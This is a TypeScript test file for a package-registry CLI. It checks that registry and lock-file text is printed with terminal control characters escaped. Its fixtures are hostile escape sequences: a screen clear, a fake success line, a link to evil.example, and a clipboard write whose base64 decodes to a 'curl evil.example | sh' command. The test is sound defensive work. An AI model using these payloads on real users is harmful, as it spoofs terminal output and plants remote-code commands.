import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runMain } from "../../cli/main.js";
import { runCli, type CliResult } from "../helpers/cli.js";
import { acmeDeployRegistry } from "../helpers/registry-fixture.js";
import { tempDir } from "../helpers/tmp.js";

/**
 * Outside review, found by the red team: a yank or deprecation reason is registry data a scope
 * owner writes, and pull printed it raw, so escape sequences in it could clear the screen, set
 * the terminal's title or overwrite the error with a fake success line. Errors and warnings
 * now show control characters as \x.. escapes.
 */

const ESCAPES = "\u001b]0;owned\u0007\u001b[2J\u001b[1A\u001b[2K+ installed fine";

describe("registry text in errors and warnings cannot drive the terminal", () => {
  it("a yank reason and a deprecation reason with escape sequences are printed escaped", async () => {
    const dir = tempDir();
    const { reg } = await acmeDeployRegistry(dir, ["1.0.0", "1.1.0"]);
    await reg.updateScope({
      scope: "acme",
      visibility: "public",
      members: { "alice@acme.example": "owner" },
      skills: { deploy: { yanked: { "1.0.0": ESCAPES }, deprecated: { "1.1.0": ESCAPES } } },
    });
    const cwd = join(dir, "project");
    mkdirSync(cwd);
    const env = { HOME: join(dir, "home") };

    const yanked = await runCli(["pull", "@acme/deploy@1.0.0", "--registry", reg.dir], { cwd, env });
    expect(yanked.code).toBe(2);
    expect(yanked.stderr).not.toContain("\u001b");
    expect(yanked.stderr).toContain("is yanked: \\x1b]0;owned\\x07\\x1b[2J\\x1b[1A\\x1b[2K+ installed fine\n");

    const deprecated = await runCli(["pull", "@acme/deploy@1.1.0", "--registry", reg.dir], { cwd, env });
    expect(deprecated.code).toBe(0);
    expect(deprecated.stderr).not.toContain("\u001b");
    expect(deprecated.stderr).toContain("is deprecated: \\x1b]0;owned");
  });

  it("text from an edited lock stays escaped on a colour terminal, where only skillreg's own colours pass", async () => {
    const dir = tempDir();
    const { reg } = await acmeDeployRegistry(dir, ["1.0.0"]);
    const cwd = join(dir, "project");
    mkdirSync(cwd);
    const env = { HOME: join(dir, "home") };
    expect((await runCli(["pull", "@acme/deploy", "--registry", reg.dir], { cwd, env })).code).toBe(0);

    // A pull request edits the lock: colour codes (SGR) that pass for ours, a hyperlink (OSC 8) and a clipboard write (OSC 52).
    const sgr = "\u001b[32mverified\u001b[0m";
    const osc8 = "\u001b]8;;https://evil.example/\u0007docs\u001b]8;;\u0007";
    const osc52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
    const lockPath = join(cwd, "skillreg.lock");
    const lock = JSON.parse(readFileSync(lockPath, "utf8")) as { skills: Record<string, { registry: string; range: string }> };
    lock.skills["@acme/deploy"]!.registry = `${sgr} ${osc8} ${osc52}`;
    lock.skills["@acme/deploy"]!.range = sgr;
    writeFileSync(lockPath, JSON.stringify(lock, null, 2));

    const r = await runOnColorTerminal(["list"], cwd, env);
    expect(r.code, r.stderr).toBe(0);
    // Colour is on: skillreg's own bold name and dim note are there...
    expect(r.stdout).toContain("\u001b[1m@acme/deploy@1.0.0\u001b[0m");
    expect(r.stdout).toContain("\u001b[2msigners as skillreg.lock records them");
    // ...and they are the only escape sequences that reach the terminal.
    const ours = /\u001b\[[012]m/g;
    expect(r.stdout.replace(ours, "")).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(r.stdout).toContain("(\\x1b[32mverified\\x1b[0m)");
    expect(r.stdout).toContain("\\x1b]8;;https://evil.example/\\x07docs\\x1b]8;;\\x07");
    expect(r.stdout).toContain("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07");
  });
});

/** The CLI on a terminal with colour on (a TTY, TERM set, NO_COLOR unset), as a user runs it. */
async function runOnColorTerminal(argv: string[], cwd: string, env: NodeJS.ProcessEnv): Promise<CliResult> {
  let stdout = "";
  let stderr = "";
  const code = await runMain(argv, {
    cwd,
    env: { ...process.env, ...env, NO_COLOR: "", TERM: "xterm-256color" },
    stdout: { write: (s: string) => (stdout += s), isTTY: true },
    stderr: { write: (s: string) => (stderr += s), isTTY: true },
  });
  return { code, stdout, stderr };
}
